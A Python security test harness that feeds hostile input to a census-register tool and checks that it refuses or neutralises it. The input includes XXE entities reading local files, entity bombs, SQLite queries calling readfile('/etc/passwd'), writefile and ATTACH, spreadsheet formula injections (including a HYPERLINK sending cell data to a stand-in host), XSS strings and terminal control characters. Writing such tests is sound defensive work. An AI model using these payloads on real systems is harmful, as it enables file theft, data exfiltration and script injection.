#!/usr/bin/env python3
"""hostile.py WHAT DIR: input that means no good, as TAP.

attacks    documents that want files, connections, time or memory
encodings  twelve encodings to the letter, and bytes that are none of them
lines      a bad record far down: its line, and its number masked
queries    SQL of packs that wants to write, to read elsewhere, or no end
names      formulas and markup in names, in every format
digits     numbers of 18 digits and X through every format
leaks      numbers in what is said, written, left behind
paths      ids, file names and entries of archives that lead elsewhere
zips       archives that lie or blow up
together   two and four processes at one database, one folder
size       so many records in how much memory

As long as it takes where TORTURE_EACH is set; else what takes seconds.
"""
import contextlib
import csv
import hashlib
import html.parser
import io
import json
import os
import re
import resource
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import time
import zipfile

HECHA, DATA = os.environ['HECHA'], os.path.realpath(os.environ['HECHA_DATADIR'])
WHAT, DIR = sys.argv[1], os.path.realpath(sys.argv[2])
WATCHED = b'__asan_init' in open(HECHA, 'rb').read()
PLAN = os.path.join(DATA, 'fixtures/street.xml')
NUMBER = '379999198001010016'
ROOT = ('<register xmlns="urn:hecha:1" year="2026" source="current"'
        ' division="379999001" exported="2026-12-20">')
count = 0


def ok(what, good, why=''):
    global count
    count += 1
    print('%s %d - %s' % ('ok' if good else 'not ok', count, what))
    if not good and why:
        print('# ' + str(why).replace('\n', '\n# ')[:2000])


def place(*names):
    return os.path.join(DIR, *names)


def write(name, data):
    path = place(name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    return path


class Made:
    """what a run of the program came to"""

    def __init__(self, *args, db='h.db', before=(), limit=600, **more):
        begun = time.monotonic()
        with subprocess.Popen(
                [*before, HECHA, '--lang', 'en', '--db', place(db), *args],
                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                stderr=subprocess.PIPE, **more) as p:
            try:
                out, err = p.communicate(timeout=limit)
            except subprocess.TimeoutExpired:
                p.kill()
                out, err = p.communicate()
        self.out, self.err = out.decode('utf-8', 'replace'), err.decode(
            'utf-8', 'replace')
        self.status, self.took = p.returncode, time.monotonic() - begun
        self.said = self.out + self.err


def usage(*args):
    """status, seconds of processor, megabytes: of a process of its own"""
    pid = os.fork()
    if pid == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.execv(HECHA, [HECHA, '--db', place('h.db'), *args])
    _, status, used = os.wait4(pid, 0)
    return (os.waitstatus_to_exitcode(status), used.ru_utime + used.ru_stime,
            used.ru_maxrss / 1024)


def rows(sql, db='h.db'):
    with contextlib.closing(sqlite3.connect(place(db))) as d:
        return d.execute(sql).fetchall()


def fresh(db='h.db'):
    for tail in ('', '-wal', '-shm'):
        with contextlib.suppress(FileNotFoundError):
            os.unlink(place(db) + tail)
    made = Made('init', '--plan', PLAN, db=db)
    if made.status != 0:
        raise SystemExit(made.said)


def tree(root):
    """each file below, with its bytes"""
    found = {}
    for folder, folders, names in os.walk(root):
        for name in names + folders:
            path = os.path.join(folder, name)
            if os.path.islink(path):
                found[path] = os.readlink(path)
            elif os.path.isfile(path):
                with open(path, 'rb') as f:
                    found[path] = hashlib.sha256(f.read()).hexdigest()
            else:
                found[path] = 'folder'
    return found


# --- attacks

def village(more='', name='x'):
    return '<village code="379999001001" name="%s"%s/>' % (name, more)


def attack_files():
    """name, bytes: all but the last few must be refused"""
    secret = write('secret.txt', 'geheim')
    dtd = write('secret.dtd', '<!ENTITY s "geheim">')
    head, end = '<?xml version="1.0"?>', '</register>'

    def doc(doctype, body=None, root=ROOT):
        return head + doctype + root + (body or village()) + end
    lol = ''.join('<!ENTITY l%d "%s">' % (i, ('&l%d;' % (i - 1)) * 10)
                  for i in range(1, 10))
    lol = '<!DOCTYPE r [<!ENTITY l0 "lol">%s]>' % lol
    yield 'xxe', doc('<!DOCTYPE r [<!ENTITY s SYSTEM "file://%s">]>' % secret,
                     village(name='&s;'))
    yield 'xxe-content', doc(
        '<!DOCTYPE r [<!ENTITY s SYSTEM "%s">]>' % secret, '&s;')
    yield 'xxe-net', doc(
        '<!DOCTYPE r [<!ENTITY s SYSTEM "http://127.0.0.1:9/a">]>', '&s;')
    yield 'parameter', doc(
        '<!DOCTYPE r [<!ENTITY %% p SYSTEM "file://%s">%%p;]>' % dtd)
    yield 'subset', doc('<!DOCTYPE r SYSTEM "%s">' % dtd)
    yield 'subset-net', doc('<!DOCTYPE r PUBLIC "x" "http://127.0.0.1:9/d">')
    yield 'laughs', doc(lol, '&l9;')
    yield 'laughs-attribute', doc(lol, village(name='&l9;'))
    yield 'quadratic', doc('<!DOCTYPE r [<!ENTITY a "%s">]>' % ('a' * 40000),
                           '&a;' * 10000)
    yield 'entities', doc('<!DOCTYPE r [%s]>' % ''.join(
        '<!ENTITY e%d "x">' % i for i in range(100000)))
    yield 'defaults', doc('<!DOCTYPE r [<!ATTLIST village name CDATA "x">]>')
    yield 'doctype-late', '<!-- %s -->' % ('x' * 100000) + doc(
        '<!DOCTYPE r [<!ENTITY a "b">]>', '&a;')
    yield 'doctype-utf16', doc('<!DOCTYPE r []>').encode('utf-16')
    yield 'utf7', b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE'
    yield 'ebcdic', '<?xml version="1.0" encoding="IBM037"?><r/>'.encode('cp037')
    yield 'attributes', doc('', '<village %s/>' % ' '.join(
        'a%d="x"' % i for i in range(100000)))
    yield 'tag', doc('', village(name='x' * (11 << 20)))
    yield 'name', doc('', '<%s/>' % ('n' * 70000))
    yield 'depth', doc('', '<a>' * 300 + '</a>' * 300)
    yield 'deeper', doc('', '<a>' * 1000000)
    yield 'record', doc('', '<village>%s</village>' % ('x' * (17 << 20)))
    yield 'comment', doc('', '<!-- ' + 'x' * 100000)
    yield 'cdata', doc('', '<![CDATA[' + 'x' * 100000)
    yield 'reference', doc('', village(name='&nothing;'))
    yield 'two-roots', doc('') + doc('')[len(head):]
    yield 'nothing', ' ' * 1000000
    # refused or not: nothing else is opened
    hint = ROOT[:-1] + (
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        ' xsi:schemaLocation="urn:hecha:1 %s"'
        ' xsi:noNamespaceSchemaLocation="http://127.0.0.1:9/x.xsd">')
    yield '+hint', doc('', root=hint % 'http://127.0.0.1:9/s.xsd')
    yield '+hint-file', doc('', root=hint % secret)
    yield '+include', doc('', '<xi:include parse="text" href="%s"'
                          ' xmlns:xi="http://www.w3.org/2001/XInclude"/>' % secret)
    yield '+sheet', doc('<?xml-stylesheet type="text/xsl" href="%s"?>' % secret)


def opened(trace):
    """what a traced program opened or connected to, but for what it always
    reads: itself, its data, libraries, the machine's settings"""
    own = (DATA, '/usr/', '/dev/urandom', '/lib', '/proc/', '/sys/', '/etc/ld.so',
           '/etc/localtime', '/etc/ssl', '/etc/gai', '/dev/null',
           os.environ.get('HECHA_LOCALEDIR', DATA), place('h.db'),
           os.path.dirname(os.path.realpath(HECHA)))
    found = set()
    with open(trace) as f:
        for line in f:
            m = re.search(r'open(?:at)?\((?:AT_FDCWD[^,]*, )?"([^"]*)".*= \d', line)
            path = os.path.normpath(m.group(1)) if m else ''
            if m and not path.startswith(own) and \
                    not os.path.realpath(m.group(1)).startswith(own):
                found.add(m.group(1))
            if 'connect(' in line:
                found.add('a connection: ' + line.strip())
    return found


def attacks():
    traced = shutil.which('strace') and not WATCHED and subprocess.run(
        ['strace', '-qq', '-o', '/dev/null', 'true'], check=False).returncode == 0
    fresh()
    good = write('a/good.xml', ROOT + village() + '</register>')
    _, base_time, base_size = usage('import', good)
    fresh()
    # all first: a process begins with the memory of the one that starts it
    files = [(name, write('a/%s.xml' % name.strip('+'), data))
             for name, data in attack_files()]
    for name, path in files:
        before = rows('SELECT COUNT(*) FROM hc_document')
        status, took, size = usage('import', path)
        if name[0] != '+':
            ok('%s is refused' % name, status == 3, status)
            ok('%s: nothing is stored' % name,
               rows('SELECT COUNT(*) FROM hc_document') == before)
        elif status not in (0, 3):
            ok('%s is looked at' % name, False, status)
        # what the program wants by itself is no fault of the file
        ok('%s: within half a second and 20 MB' % name,
           WATCHED or took - base_time < 0.5 and size - base_size < 20,
           '%.2f s, %.1f MB' % (took, size))
        if traced:
            trace = place('trace')
            Made('import', path, before=[
                'strace', '-f', '-qq', '-o', trace, '-e',
                'trace=open,openat,connect'])
            others = opened(trace) - {path, os.path.dirname(path)}
            others = {o for o in others if not o.startswith(
                ('/tmp/etilqs', '/var/tmp/etilqs', '/tmp/.hecha', place('h.db'),
                 DIR + '/.hecha'))}
            others -= {DIR}
            ok('%s: nothing else is opened' % name, not others, others)


# --- encodings

def encodings():
    common = '青石村寮犱笁'
    rare = common + '\U00020000\u3400' # beyond GBK
    for i, (label, codec, mark, name) in enumerate((
            ('UTF-8', 'utf-8', b'', rare), ('utf-8', 'utf-8', b'\xef\xbb\xbf', rare),
            (None, 'utf-8', b'', rare), ('GBK', 'gbk', b'', common + '镕'),
            ('gb2312', 'gbk', b'', common + '镕'), ('GB18030', 'gb18030', b'', rare),
            ('gb18030', 'gb18030', b'', rare), ('UTF-16', 'utf-16-le', b'\xff\xfe', rare),
            ('UTF-16', 'utf-16-be', b'\xfe\xff', rare),
            ('UTF-16LE', 'utf-16-le', b'', rare), ('UTF-16BE', 'utf-16-be', b'', rare),
            ("GBK'", 'gbk', b'', common))):
        fresh()
        said = '' if label is None else ' encoding="%s"' % label
        if label == "GBK'":
            said = " encoding='GBK'"
        text = '<?xml version="1.0"%s?>%s%s</register>' % (
            said, ROOT, village(name=name))
        made = Made('import', write('e/%d.xml' % i, mark + text.encode(codec)))
        got = rows('SELECT name FROM village')
        ok('%s as %s%s is read to the letter' % (
            label, codec, ' with a mark' if mark else ''),
           made.status == 0 and got == [(name,)], made.said + str(got))
    with open(PLAN, encoding='utf-8') as f:
        plan = f.read()
    for codec in ('gb18030', 'utf-16'):
        made = Made('init', '--plan', write('e/plan.xml', plan.replace(
            '"UTF-8"', '"%s"' % codec, 1).encode(codec)), db=codec + '.db')
        ok('so is a plan in %s' % codec, made.status == 0 and
           rows('SELECT id FROM hc_plan', codec + '.db') == rows(
               'SELECT id FROM hc_plan'), made.said)
    lines = ''.join('<village code="379999%06d" name="%s"/>\n' % (i, common)
                    for i in range(20000))
    whole = '<?xml version="1.0" encoding="%s"?>\n' + ROOT + '%s</register>'
    utf = (whole % ('UTF-8', lines)).encode()
    middle = len(utf) // 2
    for name, data in (
            ('GBK bytes called UTF-8', (whole % ('UTF-8', lines)).encode('gbk')),
            ('GBK bytes without a word', (whole % ('', lines)).replace(
                ' encoding=""', '').encode('gbk')),
            ('UTF-8 bytes called GBK', (whole % ('GBK', lines)).encode()),
            ('UTF-8 bytes called GB18030', (whole % ('GB18030', lines)).encode()),
            ('a byte that is none, in the middle',
             utf[:middle] + b'\xff' + utf[middle:]),
            ('a zero byte', utf[:middle] + b'\0' + utf[middle:]),
            ('a control character', utf[:middle] + b'\x0b' + utf[middle:]),
            ('an overlong character', utf[:middle] + b'\xc0\xaf' + utf[middle:]),
            ('half a pair', utf[:middle] + b'\xed\xa0\x80' + utf[middle:]),
            ('half a pair of UTF-16', b'\xff\xfe' + (whole % (
                'UTF-16', lines)).encode('utf-16-le')[:-40] + b'\x00\xd8' * 3),
            ('a character cut at the end', utf[:-12] + '村'.encode()[:2]),
            ('a control character by its number',
             (whole % ('UTF-8', lines[:-10] + village(name='&#27;'))).encode())):
        fresh()
        made = Made('import', write('e/bad.xml', data))
        left = sum(rows('SELECT COUNT(*) FROM ' + t)[0][0]
                   for t in ('hc_document', 'village'))
        ok('%s is refused' % name, made.status == 3 and 'bad.xml' in made.err,
           made.said)
        ok('%s: nothing is kept' % name, left == 0, left)


# --- lines

def lines():
    for far in (70003, 900000):
        fresh()
        body = ('\n' * (far - 3) + village(name='%s" code2="' % NUMBER) + '\n' +
                '<household id="h1" village="%s" size="%s"/>\n' % (NUMBER, NUMBER))
        made = Made('import', write('l/far.xml', ROOT + '\n\n' + body +
                                    '</register>'))
        ok('a bad record at line %d is told by it' % far,
           'far.xml:%d: ' % far in made.said and
           'far.xml:%d: ' % (far + 1) in made.said, made.said)
        ok('its number is masked', NUMBER not in made.said and
           '379999' in made.said, made.said)
    fresh()
    body = '<household id="h%d" village="379999001001" size="1">%s</household>'
    made = Made('import', write('l/huge.xml', ROOT + village() + '\n' + body % (
        1, '<member/>' * 100001) + body % (2, '') + '</register>'))
    ok('a record of too many parts is told as one, and no other is', made.status == 0
       and 'huge.xml:2: record h1: ' in made.said and rows(
           'SELECT id FROM household') == [('h2',)], made.said)


# --- queries

PACK = '''<?xml version="1.0" encoding="UTF-8"?>
<rules xmlns="urn:hecha:1" id="BAD" version="1" clause="3.2.1a">
<title xml:lang="zh">坏</title><title xml:lang="en">Bad</title>
<rule id="BAD-01" severity="notice" scope="whole" clause="3.2.1a" needs="register">
<title xml:lang="zh">坏</title><title xml:lang="en">Bad</title>
<message xml:lang="zh">坏。</message><message xml:lang="en">Bad.</message>
<remedy xml:lang="zh">无。</remedy><remedy xml:lang="en">None.</remedy>
<expected xml:lang="zh">无。</expected><expected xml:lang="en">None.</expected>
<sql><![CDATA[%s]]></sql>
<case title="one" expect="1"><register year="2026"><household id="h1"/></register></case>
</rule></rules>
'''
ONE = 'SELECT h.village, h.id AS household, h.document, h.line FROM household h'
LONG = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) '


def hostile_queries():
    out = place('cwd', 'stolen')
    yield 'ATTACH', "ATTACH '%s' AS x" % out
    yield 'attach of the database', "ATTACH '%s' AS x" % place('h.db')
    yield 'VACUUM', 'VACUUM'
    yield 'VACUUM INTO', "VACUUM INTO '%s'" % out
    yield 'DETACH', 'DETACH main'
    yield 'PRAGMA', 'PRAGMA writable_schema = ON'
    yield 'a pragma as a table', "SELECT name AS village FROM pragma_table_info('household')"
    yield 'DELETE', 'DELETE FROM household'
    yield 'UPDATE', "UPDATE household SET id = 'x'"
    yield 'INSERT', 'INSERT INTO household(id) VALUES(1)'
    yield 'DROP', 'DROP TABLE household'
    yield 'CREATE TABLE', 'CREATE TABLE x(a)'
    yield 'CREATE TEMP TABLE', 'CREATE TEMP TABLE x(a)'
    yield 'CREATE TRIGGER', ('CREATE TEMP TRIGGER x AFTER INSERT ON household'
                             ' BEGIN DELETE FROM household; END')
    yield 'CREATE VIEW', 'CREATE TEMP VIEW x AS SELECT 1'
    yield 'ALTER', 'ALTER TABLE household RENAME TO x'
    yield 'REINDEX', 'REINDEX'
    yield 'ANALYZE', 'ANALYZE'
    yield 'BEGIN', 'BEGIN'
    yield 'COMMIT', 'COMMIT'
    yield 'ROLLBACK', 'ROLLBACK'
    yield 'EXPLAIN', 'EXPLAIN ' + ONE
    yield 'two statements', ONE + '; DELETE FROM household'
    yield 'a table of the program', ONE + " WHERE EXISTS (SELECT 1 FROM hc_plan)"
    yield 'the schema', ONE + ' WHERE EXISTS (SELECT 1 FROM sqlite_schema)'
    yield 'the old schema', ONE + ' WHERE EXISTS (SELECT 1 FROM sqlite_master)'
    yield 'load_extension', ONE + " WHERE load_extension('/tmp/x') IS NULL"
    yield 'readfile', ONE + " WHERE readfile('/etc/passwd') IS NULL"
    yield 'writefile', ONE + " WHERE writefile('%s', 'x') IS NULL" % out
    yield 'fts3_tokenizer', ONE + " WHERE fts3_tokenizer('simple') IS NULL"
    yield 'printf', ONE + " WHERE printf('%.*c', 500000000, 'x') IS NULL"
    yield 'randomblob', ONE + ' WHERE randomblob(1000000000) IS NULL'
    yield 'zeroblob', ONE + ' WHERE zeroblob(1000000000) IS NULL'
    yield 'the time', ONE + " WHERE datetime('now') IS NULL"
    yield 'chance', ONE + ' WHERE random() = 1'


def endless_queries():
    yield 'recursion', LONG + (
        'SELECT NULL AS village, NULL AS household, i AS document, i AS line'
        ' FROM n WHERE i < 0')
    yield 'a product', ('SELECT a.village, a.id AS household, a.document, a.line'
                        ' FROM household a, code b, code c, code d, code e'
                        ' WHERE b.code || c.code || d.code || e.code = 1')
    yield 'a text that grows', (
        "WITH RECURSIVE n(i) AS (SELECT 'x' UNION ALL SELECT i || i FROM n)"
        " SELECT NULL AS village, i AS household, 1 AS document, 1 AS line FROM n")
    yield 'all texts in one', LONG + (
        "SELECT NULL AS village, group_concat(i) AS household, 1 AS document,"
        " 1 AS line FROM n")
    yield 'a sort', LONG + (
        'SELECT NULL AS village, NULL AS household, i AS document, i AS line'
        ' FROM n ORDER BY -i')
    yield 'long texts', LONG + (
        "SELECT NULL AS village, NULL AS household, i AS document, i AS line"
        " FROM n WHERE length(replace(replace(replace('aaaaaaaaaaaaaaaaaaaa',"
        " 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a',"
        " 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a', 'aaaa')) < 0")


def queries():
    fresh()
    os.mkdir(place('cwd'))
    Made('import', os.path.join(DATA, 'fixtures/minimal/register.xml'))
    os.mkdir(place('packs'))
    with contextlib.closing(sqlite3.connect(place('h.db'))) as db:
        held = list(db.iterdump())
    before = None
    for name, sql in hostile_queries():
        pack = write('pack.xml', PACK % sql)
        before = before or tree(DIR)
        made = Made('rules', 'lint', pack, cwd=place('cwd'))
        ok('%s is no check' % name, made.status in (1, 3), made.said)
        made = Made('check', '--rules', pack, cwd=place('cwd'))
        ok('%s: nor made' % name, made.status == 3 and 'BAD-01' in made.said,
           made.said)
        now = tree(DIR)
        for t in (before, now):
            t.pop(place('pack.xml'), None)
        ok('%s: nothing is changed' % name, now == before,
           set(now.items()) ^ set(before.items()))
    seconds = 2 if FULL else 1
    for name, sql in list(endless_queries())[:None if FULL else 2]:
        pack = write('pack.xml', PACK % sql)
        made = Made('--verbose', 'check', '--rules', pack, '--only', 'BAD',
                    '--reason', 'x', '--rule-seconds', str(seconds), cwd=place('cwd'))
        took = re.search(r'BAD-01: (\d+) ms', made.said)
        ok('%s is stopped in time' % name, made.status in (1, 3, 4) and
           ('not authorized' in made.said or
            WATCHED or took and int(
                took.group(1)) < 1000 * seconds + 100), made.said)
        if not FULL:
            continue
        # a case of its own is given ten seconds
        made = Made('rules', 'lint', pack, cwd=place('cwd'), limit=60)
        ok('%s is stopped by lint' % name, made.status in (1, 3), made.said)
    with contextlib.closing(sqlite3.connect(place('h.db'))) as db:
        households = db.execute('SELECT COUNT(*) FROM household').fetchone()
    ok('the records are there', ('INSERT INTO "household"' in ''.join(held)) ==
       (households[0] > 0))


# --- names

NASTY = (
    '=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '＝1+1', '＋1+1', '－1+1',
    '＠SUM(1)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://e/?"&A1,"x")',
    '=WEBSERVICE("http://e/")', '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", '</script><script>alert(1)</script>',
    'javascript:alert(1)', '<svg onload=alert(1)>', '&lt;b&gt;&amp;amp;',
    '"," =1+1', '-->]]><b>', '{{7*7}}${7*7}', ' =1+1', '\u202e=1+1',
    '％=1', 'a\n=1+1')


class Page(html.parser.HTMLParser):
    """elements and attributes that a page has"""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.seen = set()
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith('on'):
                self.seen.add((tag, name))
            if (value or '').strip().lower().startswith('javascript:'):
                self.seen.add((tag, 'javascript'))
        if tag in ('img', 'svg', 'b', 'iframe', 'object'):
            self.seen.add((tag, ''))
        if tag == 'script':
            self.seen.add((tag, len([1 for s in self.seen if s[0] == tag])))


def escaped(s):
    for a, b in (('&', '&amp;'), ('<', '&lt;'), ('"', '&quot;'),
                 ('\t', '&#9;'), ('\n', '&#10;')):
        s = s.replace(a, b)
    return s


def street(names):
    """a household of each name, whose size is wrong: a finding each"""
    body = ''.join(
        '<village code="379999001%03d" name="%s"/><household id="h%d"'
        ' village="379999001%03d" head-name="%s" class="none" size="9"'
        ' phone="12345"><member id="m%d" relation="01" name="%s"'
        ' number="1234"/></household>' % (
            i + 1, n, i, i + 1, n, i, n)
        for i, n in enumerate(map(escaped, names)))
    return '<?xml version="1.0" encoding="UTF-8"?>' + ROOT + body + '</register>'


def sheets(path):
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith('.xml'):
                yield name, z.read(name).decode()


def names():
    pages = {}
    for what, used in (('nasty', NASTY), ('plain', ['王石'] * len(NASTY))):
        path = write('n/%s.xml' % what, street(used))
        made = Made('audit', PLAN, path, '-o', place(what))
        if made.status not in (1, 3):
            ok('an audit of %s names' % what, False, made.said)
        pages[what] = {
            f: Page(open(place(what, f), encoding='utf-8').read()).seen
            for f in sorted(os.listdir(place(what))) if f.endswith('.html')}
    kept = rows('SELECT COUNT(*) FROM household', 'nasty/hecha.db')[0][0]
    ok('names that are no good are names', kept >= 20, kept)
    for page, seen in pages['nasty'].items():
        more = seen - pages['plain'].get(page, set())
        ok('%s has no element or handler by a name' % page, not more, more)
    db = 'nasty/hecha.db'
    for kind in ('problems', 'acceptance', 'visits'):
        out = place('nasty', kind + '-2.xlsx')
        made = Made('report', kind, '-f', 'xlsx', '-o', out, db=db)
        parts = dict(sheets(out)) if made.status == 0 else {}
        # what the program itself counts with stands in its own sheets' cells
        formulas = [f for p, t in parts.items() if 'worksheets' in p
                    for f in re.findall(r'<f>(.*?)</f>', t)
                    if any(n in f for n in ('cmd|', 'e/?', 'WEBSERVICE', '1+1',
                                            'SUM(1)'))]
        ok('%s.xlsx has no formula by a name' % kind,
           made.status == 0 and parts and not formulas, formulas or made.said)
        links = [t for p, t in parts.items() if p.endswith('.rels') and
                 'http://e/' in t]
        ok('%s.xlsx has no link by a name' % kind, not links, links)
    for how, args in (('report', ('report', 'problems', '-f', 'csv', '-o',
                                  place('out.csv'))),
                      ('findings', ('findings', '-f', 'csv'))):
        made = Made(*args, db=db)
        text = open(place('out.csv'), encoding='utf-8-sig', newline='').read() \
            if how == 'report' else made.out
        bad = [c for r in csv.reader(text.splitlines(True)) for c in r
               if c[:1] in tuple('=+@＝＋＠\t\r\n') or
               c[:1] in ('-', '－') and not re.fullmatch(r'-?[0-9.]*', c)]
        ok('no cell of %s as CSV is a formula' % how, len(text) > 1000 and not bad,
           bad[:10] or made.said)
    made = Made('findings', '-f', 'json', db=db)
    found = json.loads(made.out)
    ok('JSON has them as they are', any('<script>' in json.dumps(
        f, ensure_ascii=False) for f in found))
    made = Made('report', 'problems', '-f', 'sarif', '-o', place('o.sarif'), db=db)
    ok('SARIF is whole', made.status == 0 and json.load(
        open(place('o.sarif'), encoding='utf-8')), made.said)
    for kind in ('self-check', 'acceptance'):
        out = place(kind + '.docx')
        made = Made('report', kind, '-f', 'docx', '-o', out, db=db)
        fields = [t for _, t in sheets(out) if 'HYPERLINK "http://e/' in t or
                  'http://e/' in ''.join(re.findall(r'Target="([^"]*)"', t))]
        ok('%s.docx has no field by a name' % kind, not fields, fields)


# --- digits

def digits():
    """numbers with a wrong check digit: each is told in full where asked"""
    right = '10X98765432'
    numbers = []
    for i in range(40 if FULL else 20):
        seventeen = '379999%d%02d%02d%03d' % (1950 + i, i % 12 + 1, i % 28 + 1, i + 101)
        good = right[sum(int(c) * 2 ** (17 - k) for k, c in
                         enumerate(seventeen)) % 11]
        numbers.append(seventeen + ('X' if good != 'X' and i % 2 else
                                    '0' if good != '0' else '1'))
    body = ''.join(
        '<household id="h%d" village="379999001001" head-name="王石" class="none"'
        ' size="1"><member id="m%d" relation="01" name="王石" number="%s"'
        ' sex="1" health="01"/></household>' % (i, i, n)
        for i, n in enumerate(numbers))
    path = write('d/r.xml', ROOT + village() + body + '</register>')
    made = Made('audit', PLAN, path, '--unmasked', '-o', place('out'))
    ok('an audit', made.status == 1, made.said)
    db = 'out/hecha.db'
    for kind, form in (('problems', 'xlsx'), ('problems', 'csv'),
                       ('problems', 'json'), ('problems', 'xml'),
                       ('self-check', 'html'), ('visits', 'xlsx')):
        out = place('%s.%s' % (kind, form))
        made = Made('report', kind, '-f', form, '-o', out, '--unmasked', db=db)
        with open(out, 'rb') as f:
            data = f.read()
        if data[:2] == b'PK':
            data = ''.join(t for _, t in sheets(out)).encode()
        lost = [n for n in numbers if n.encode() not in data]
        ok('%s as %s has each number' % (kind, form), made.status == 0 and
           not lost, '%d lost, such as %s: %s' % (
               len(lost), lost[:2], made.said))
    made = Made('findings', '-f', 'csv', '--unmasked', db=db)
    ok('findings as CSV', not [n for n in numbers if n not in made.out], made.said)
    made = Made('export', 'register', '-o', place('e.xlsx'), db=db)
    fresh()
    again = Made('import', place('e.xlsx'))
    back = [r[0] for r in rows('SELECT number FROM member')]
    ok('ledgers bring them back', made.status == 0 and sorted(map(
        str, back)) == sorted(numbers), made.said + again.said)
    text = '户编号,村,人口编号,姓名,证件号码\n' + ''.join(
        'h%d,柳泉村,m%d,王石,%s\n' % (i, i, n) for i, n in enumerate(numbers))
    for codec in ('utf-8-sig', 'gb18030'):
        fresh()
        write('t/村.csv', '村代码,村名称\n379999001001,柳泉村\n'.encode(codec))
        write('t/人.csv', text.encode(codec))
        again = Made('import', place('t'), '--division',
                     '379999001', '--year', '2026', '--source', 'current',
                     '--exported', '2026-11-20')
        back = [r[0] for r in rows('SELECT number FROM member')]
        ok('so does a table in %s' % codec, sorted(back) == sorted(numbers),
           again.said)


# --- leaks

NUMBERS = r'(?<!\d)\d{17}[\dXx](?![\dXx])'


def seeded():
    """every identity number of the faulty street"""
    found = set()
    folder = os.path.join(DATA, 'fixtures/faulty')
    for name in os.listdir(folder):
        with open(os.path.join(folder, name), encoding='utf-8') as f:
            found.update(re.findall(NUMBERS, f.read()))
    # the cases of the packs go with a package: their persons are invented
    for name in os.listdir(os.path.join(DATA, 'rules')):
        with open(os.path.join(DATA, 'rules', name), encoding='utf-8') as f:
            found -= set(re.findall(NUMBERS, f.read()))
    return {n.encode() for n in found}


def holding(data, numbers):
    """numbers in bytes, and in what they pack"""
    parts = [data]
    if data[:2] == b'PK':
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            parts = [z.read(n) for n in z.namelist()]
    found = set()
    for part in parts:
        if part is not data and part[:2] == b'PK':
            found |= holding(part, numbers)
        found |= {n for n in re.findall(rb'\d{17}[\dXx]', part) if n in numbers}
    return found


def leaks():
    numbers = seeded()
    ok('the street has numbers', len(numbers) > 100, len(numbers))
    street = os.path.join(DATA, 'fixtures/faulty')
    out, temp = place('out'), place('temp')
    os.makedirs(temp)
    env = dict(os.environ, TMPDIR=temp, SQLITE_TMPDIR=temp)
    traced = shutil.which('strace') and not WATCHED and subprocess.run(
        ['strace', '-qq', '-o', '/dev/null', 'true'], check=False).returncode == 0
    before = ['strace', '-f', '-qq', '-s', '4096', '-o', place('trace'), '-e',
              'trace=execve,openat,creat,mkdir'] if traced else []
    db = 'out/hecha.db'
    bad = write('bad.xml', ROOT + ''.join(
        '<household id="h%d" village="%s" size="%s"/>' % (i, n.decode(), n.decode())
        for i, n in enumerate(sorted(numbers)[:200])) + '</register>')
    commands = [('audit', PLAN, street, '-o', out)] + [
        ('report', kind, '-f', form, '-o', place('out', '%s-2.%s' % (kind, form)))
        for kind, form in (('problems', 'csv'), ('problems', 'json'),
                           ('problems', 'md'), ('problems', 'sarif'),
                           ('self-check', 'docx'), ('visits', 'xlsx'),
                           ('overview', 'html'), ('acceptance', 'xlsx'))] + [
        ('findings',), ('findings', '-f', 'csv'), ('findings', '-f', 'json'),
        ('status',), ('check', '--full', '--verbose'),
        ('seal', '-o', place('out', 'p.zip')),
        ('submit', '--to', 'https://127.0.0.1:1/', '--retries', '0'),
        ('outbox',), ('import', bad), ('import', '--strict', bad),
        ('convert', bad, '-o', place('out', 'c')),
        ('verdict', 'list'), ('compare', '1', '2'),
        ('report', 'problems', '-f', 'html', '-o', '/nowhere/x.html')]
    if not FULL:
        commands = commands[:3] + commands[9:12] + commands[14:19]
    for c in commands:
        made = Made(*c, db=db, env=dict(env, HECHA_TRACE='run,reuse'), before=before)
        said = holding(made.said.encode(), numbers)
        ok('%s says no number' % ' '.join(c[:2]), made.status not in (
            -11, -6) and not said, said or made.status)
        if not traced:
            continue
        arguments, modes = created(place('trace'), numbers)
        ok('nor does an argument', not arguments, arguments)
        ok('what it makes is its owner\'s alone', not modes, modes)
    wide = [p for p in tree(out) if not os.path.islink(p) and
            os.stat(p).st_mode & 0o077]
    ok('so is all that is there', not wide, wide)
    shown = {}
    for p in tree(out):
        if os.path.isfile(p) and 'hecha.db' not in p:
            with open(p, 'rb') as f:
                found = holding(f.read(), numbers)
            if found:
                shown[p] = len(found)
    ok('no file but the database has a number', not shown, shown)
    ok('no temporary file is left', not tree(temp), tree(temp))
    hidden()
    dies(env, numbers, temp)


# numbers as they stand in names, and what steers a terminal
WRITTEN = (
    NUMBER, NUMBER[:6] + NUMBER[8:17], '379999 19800101 0016', '3799-9919-8001-0100-16',
    '３７９９９９１９８００１０１００１６', NUMBER + NUMBER)
STEERS = '\x9b31m\u202e\u2067\x85'


def hidden():
    """in names no number is legible where they are masked, nor does a terminal
    do what one says"""
    path = write('n/r.xml', street(['王%s%s' % (w, STEERS) for w in WRITTEN]))
    made = Made('audit', PLAN, path, '-o', place('named'))
    said = [made.said] + [Made('findings', '-f', f, db='named/hecha.db').out
                          for f in ('text', 'csv', 'json')]
    ok('an audit of such names finds something', made.status == 1 and
       all('王' in s for s in said[1:2]), made.said)
    ok('nothing of them steers a terminal',
       not [s for s in said if set(s) & set(STEERS) - set('31m')])
    seal = place('named', 'p.zip')
    Made('seal', '-o', seal, db='named/hecha.db')
    for p in [seal, *tree(place('named'))]:
